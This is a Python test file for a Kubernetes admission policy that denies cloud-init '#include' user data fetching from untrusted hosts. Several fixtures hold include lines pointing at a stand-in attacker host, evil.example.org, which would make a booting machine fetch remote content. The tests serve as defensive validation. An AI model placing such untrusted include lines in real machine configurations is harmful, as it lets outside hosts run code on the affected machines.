"""User data that is fetched from elsewhere when a machine boots."""

from __future__ import annotations

import base64
from typing import Any

from provisioning.resources import KUBEVIRT_MACHINE_TEMPLATES, MACHINE_DEPLOYMENTS, SECRETS
from tests.webhooks.estate import CATALOG, NAMESPACE, TENANT, tweak
from tests.webhooks.fakes import World
from tests.webhooks.reviews import manifest, request
from webhooks.decision import Allow, Deny
from webhooks.policies.included_user_data import POLICY

TRUSTING = tweak(CATALOG, "spec.trustedSources", ["https://boot.example.org/kits"])
NAMED = manifest(MACHINE_DEPLOYMENTS, "m", {"template": {"spec": {"bootstrap": {"dataSecretName": "s"}}}})


def check(resource: Any, new: Any, *more: Any, **rest: Any) -> Any:
    return World(TRUSTING, TENANT, NAMESPACE, *more).check(POLICY, request(resource, new, **rest))


def template(user_data: str, name: str = "t") -> Any:
    volumes = [{"cloudInitNoCloud": {"userData": user_data}}]
    machine = {"virtualMachineTemplate": {"spec": {"template": {"spec": {"volumes": volumes}}}}}
    return manifest(KUBEVIRT_MACHINE_TEMPLATES, name, {"template": {"spec": machine}})


def secret(user_data: str) -> Any:
    return manifest(SECRETS, "s", data={"value": base64.b64encode(user_data.encode()).decode()}, type="Opaque")


def test_nothing_is_fetched_from_where_nobody_vouches_for() -> None:
    verdict = check(KUBEVIRT_MACHINE_TEMPLATES, template("#include\nhttps://evil.example.org/x?key=hidden\n"))
    assert isinstance(verdict, Deny)
    assert verdict.code == 403
    assert verdict.causes[0].field.endswith("cloudInitNoCloud.userData")
    assert "hidden" not in verdict.reason


def test_what_the_platform_trusts_may_be_included() -> None:
    trusted = "#include https://boot.example.org/kits/a\n"
    assert check(KUBEVIRT_MACHINE_TEMPLATES, template(trusted)) == Allow()
    assert isinstance(check(KUBEVIRT_MACHINE_TEMPLATES, template(f"{trusted}https://boot.example.org/other\n")), Deny)


def test_a_secret_with_user_data_is_held_to_the_same_before_and_after_it_is_named() -> None:
    fetching = secret("#include-once\nhttps://evil.example.org/x\n")
    assert isinstance(check(MACHINE_DEPLOYMENTS, NAMED, fetching), Deny)
    assert isinstance(check(SECRETS, fetching, NAMED), Deny)
    assert check(SECRETS, fetching) == check(MACHINE_DEPLOYMENTS, NAMED, secret("#!/bin/sh\n")) == Allow()


def test_what_was_there_before_may_be_changed_in_all_else() -> None:
    old = template("#include\nhttps://evil.example.org/x\n")
    assert check(KUBEVIRT_MACHINE_TEMPLATES, tweak(old, "metadata.labels", {"a": "b"}), old=old) == Allow()
